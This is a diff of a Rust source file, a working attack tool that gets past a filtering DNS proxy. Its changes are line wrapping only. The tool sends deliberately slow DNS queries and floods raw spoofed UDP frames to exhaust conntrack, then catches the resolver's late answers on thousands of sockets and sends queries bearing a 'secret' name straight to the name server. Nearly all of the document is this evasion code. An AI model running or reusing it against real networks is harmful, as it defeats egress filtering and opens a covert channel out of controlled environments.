@@ -1,6 +1,7 @@
-//! Taking over a proxy's conversation with its name server: questions whose answers come too late make it ask from many ports;
-//! a flood of questions of our own makes conntrack forget them; the late answers then look like conversations begun outside,
-//! to which the way back is open. Whoever gets one talks to the name server directly.
+//! Taking over a proxy's conversation with its name server: questions whose answers come too late
+//! make it ask from many ports; a flood of questions of our own makes conntrack forget them; the
+//! late answers then look like conversations begun outside, to which the way back is open. Whoever
+//! gets one talks to the name server directly.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::io::ErrorKind;
@@ -37,11 +38,22 @@ const SOCKETS: usize = 19_900;
 const LINGER: Duration = Duration::from_secs(3);
 
 /// Asks plainly first: without a filter that is enough.
-pub(crate) fn run(how: &str, server: Ipv4Addr, names: &Names<'_>, flood: Duration) -> anyhow::Result<()> {
+pub(crate) fn run(
+    how: &str,
+    server: Ipv4Addr,
+    names: &Names<'_>,
+    flood: Duration,
+) -> anyhow::Result<()> {
     let slow = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, OURS))?;
-    slow.send_to(&dns_question(1, &format!("plain.{}", names.secret)), (server, 53))?;
+    slow.send_to(
+        &dns_question(1, &format!("plain.{}", names.secret)),
+        (server, 53),
+    )?;
     for number in 0..SLOW {
-        slow.send_to(&dns_question(number, &format!("n{number}.{}", names.late)), (server, 53))?;
+        slow.send_to(
+            &dns_question(number, &format!("n{number}.{}", names.late)),
+            (server, 53),
+        )?;
     }
     let doors = match how {
         "raw" => raw(names, flood)?,
@@ -59,13 +71,22 @@ fn plain(names: &Names<'_>, length: Duration) -> anyhow::Result<usize> {
     let wait = Epoll::new(EpollCreateFlags::EPOLL_CLOEXEC)?;
     let mut sockets = Vec::new();
     for port in PORTS.take(SOCKETS.min(usize::try_from(most)?.saturating_sub(64))) {
-        let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, port)) else { continue };
+        let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, port)) else {
+            continue;
+        };
         socket.set_nonblocking(true)?;
-        wait.add(&socket, EpollEvent::new(EpollFlags::EPOLLIN, u64::try_from(sockets.len())?))?;
+        wait.add(
+            &socket,
+            EpollEvent::new(EpollFlags::EPOLLIN, u64::try_from(sockets.len())?),
+        )?;
         sockets.push(socket);
     }
     println!("sockets: {}", sockets.len());
-    let mut stray = Stray { wait, sockets, found: BTreeMap::new() };
+    let mut stray = Stray {
+        wait,
+        sockets,
+        found: BTreeMap::new(),
+    };
     let end = Instant::now() + length;
     let mut sent = 0_u64;
     for round in 0_u8.. {
@@ -103,14 +124,23 @@ impl Stray {
     /// Takes what has come, and sends a denied question back at once.
     fn collect(&mut self, patience: Duration, names: &Names<'_>) -> anyhow::Result<()> {
         let mut events = [EpollEvent::empty(); 1024];
-        let count = self.wait.wait(&mut events, EpollTimeout::try_from(patience)?)?;
+        let count = self
+            .wait
+            .wait(&mut events, EpollTimeout::try_from(patience)?)?;
         for event in events.iter().take(count) {
             let at = usize::try_from(event.data())?;
-            let Some(socket) = self.sockets.get(at) else { continue };
+            let Some(socket) = self.sockets.get(at) else {
+                continue;
+            };
             while let Ok((_, from)) = socket.recv_from(&mut [0; 2048]) {
                 let is_flood = matches!(from.ip(), IpAddr::V4(address) if address.octets().starts_with(&NOBODY));
                 if from.port() == 53 && !is_flood && self.found.insert(at, from).is_none() {
-                    socket.send_to(&dns_question(0x7000, &format!("t{at}.{}", names.secret)), from).ok();
+                    socket
+                        .send_to(
+                            &dns_question(0x7000, &format!("t{at}.{}", names.secret)),
+                            from,
+                        )
+                        .ok();
                 }
             }
         }
@@ -125,7 +155,10 @@ impl Stray {
             let socket = self.sockets.get(*at).context("a socket")?;
             socket.set_nonblocking(false)?;
             socket.set_read_timeout(Some(Duration::from_millis(500)))?;
-            socket.send_to(&dns_question(0x7100, &format!("u{at}.{}", names.secret)), from)?;
+            socket.send_to(
+                &dns_question(0x7100, &format!("u{at}.{}", names.secret)),
+                from,
+            )?;
             open += usize::from(socket.recv(&mut [0; 2048]).is_ok_and(|length| length > 12));
         }
         Ok(open)
@@ -136,12 +169,18 @@ impl Stray {
 fn raw(names: &Names<'_>, length: Duration) -> anyhow::Result<usize> {
     let link = Link::look("eth0")?;
     let (frames, ears) = (link.open()?, link.open()?);
-    nix::fcntl::fcntl(&ears.socket, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK))?;
+    nix::fcntl::fcntl(
+        &ears.socket,
+        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
+    )?;
     let mut doors = BTreeSet::new();
     let (end, mut sent) = (Instant::now() + length, 0_u32);
     while Instant::now() < end {
         for _ in 0..500 {
-            let from = (link.v4, PORTS.start + u16::try_from(sent % 64_000).expect("a port"));
+            let from = (
+                link.v4,
+                PORTS.start + u16::try_from(sent % 64_000).expect("a port"),
+            );
             let last = u8::try_from(sent / 64_000 % 200 + 1).expect("one byte");
             let to = (Ipv4Addr::new(NOBODY[0], NOBODY[1], NOBODY[2], last), 53);
             frames.send(&V4::new(from.0, to.0, UDP).around(&udp(from.into(), to.into(), b"x")))?;
@@ -171,13 +210,21 @@ fn listen(
     loop {
         let length = match nix::unistd::read(&ears.socket, &mut buffer) {
             Ok(length) => length,
-            Err(error) if std::io::Error::from(error).kind() == ErrorKind::WouldBlock => return Ok(()),
+            Err(error) if std::io::Error::from(error).kind() == ErrorKind::WouldBlock => {
+                return Ok(());
+            }
             Err(error) => return Err(error.into()),
         };
-        // Ethernet, IPv4 without options, UDP, from port 53, to us, and not to the socket of our slow questions.
-        let Some(packet) = buffer.get(14..length).filter(|packet| packet.len() >= 28) else { continue };
+        // Ethernet, IPv4 without options, UDP, from port 53, to us, and not to the socket of our
+        // slow questions.
+        let Some(packet) = buffer.get(14..length).filter(|packet| packet.len() >= 28) else {
+            continue;
+        };
         let word = |at: usize| u16::from_be_bytes([packet[at], packet[at + 1]]);
-        let (from, port) = (Ipv4Addr::new(packet[12], packet[13], packet[14], packet[15]), word(22));
+        let (from, port) = (
+            Ipv4Addr::new(packet[12], packet[13], packet[14], packet[15]),
+            word(22),
+        );
         let to_us = packet[16..20] == link.v4.octets();
         if packet[0] == 0x45
             && packet[9] == UDP
